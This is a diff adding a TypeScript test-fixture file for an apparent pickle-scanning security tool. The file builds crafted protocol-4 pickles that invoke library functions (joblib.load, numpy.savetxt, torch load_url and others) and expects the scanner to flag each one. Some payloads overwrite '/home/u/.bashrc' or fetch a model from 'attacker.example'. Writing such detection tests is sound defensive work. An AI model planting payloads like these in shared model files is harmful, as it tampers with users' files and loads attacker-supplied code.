@@ -1,0 +1,62 @@
+import type { UnseenCase } from './unseen-attacks.test.js';
+
+const short = (s: string) => `\x8c${String.fromCharCode(s.length)}${s}`;
+/** Protocol 4: STACK_GLOBAL of `module` + `name` (dotted names walk attributes), called with one string. */
+const call4 = (module: string, name: string, arg = 'x') =>
+  Buffer.from(`\x80\x04${short(module)}${short(name)}\x93${short(arg)}\x85R.`, 'latin1');
+
+/**
+ * Globals a model library exports that read or write files, fetch URLs or load other models: `pickle.load`'s
+ * `find_class` imports them and REDUCE calls them (CPython `Lib/pickle.py` `load_stack_global`, `load_reduce`).
+ * They were "unknown name of a model library" warnings, which pass the default gate.
+ */
+export const PICKLE_CASES: readonly UnseenCase[] = [
+  {
+    name: 'joblib.load under its own module name',
+    loader: 'joblib.numpy_pickle.load (unpickles another file)',
+    files: { 'm.pkl': call4('joblib.numpy_pickle', 'load', '/tmp/evil.pkl') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: "scikit-learn's re-export of joblib.load",
+    loader: 'sklearn.utils._joblib.load is joblib.load',
+    files: { 'm.pkl': call4('sklearn.utils._joblib', 'load', '/tmp/evil.pkl') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'Keras load_model of another (legacy .h5) model',
+    loader: 'keras.src.saving.saving_api.load_model',
+    files: { 'm.pkl': call4('keras.src.saving.saving_api', 'load_model', '/tmp/lambda.h5') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'numpy.savetxt writes a file',
+    loader: 'numpy.savetxt',
+    files: { 'm.pkl': call4('numpy', 'savetxt', '/home/u/.bashrc') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'torch model_zoo downloads and torch.loads a URL',
+    loader: 'torch.utils.model_zoo.load_url → torch.hub.load_state_dict_from_url',
+    files: { 'm.pkl': call4('torch.utils.model_zoo', 'load_url', 'https://attacker.example/x.pt') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'unbound DataFrame.to_pickle reached through the pandas alias',
+    loader: 'pickle _getattribute of a dotted protocol 4 name',
+    files: { 'm.pkl': call4('pandas', 'DataFrame.to_pickle') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'unbound ndarray.tofile',
+    loader: 'pickle _getattribute of a dotted protocol 4 name',
+    files: { 'm.pkl': call4('numpy', 'ndarray.tofile') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'scikit-learn dataset fetcher (network)',
+    loader: 'sklearn.datasets.fetch_openml',
+    files: { 'm.pkl': call4('sklearn.datasets', 'fetch_openml', 'x') },
+    want: ['CPI001:error'],
+  },
+];
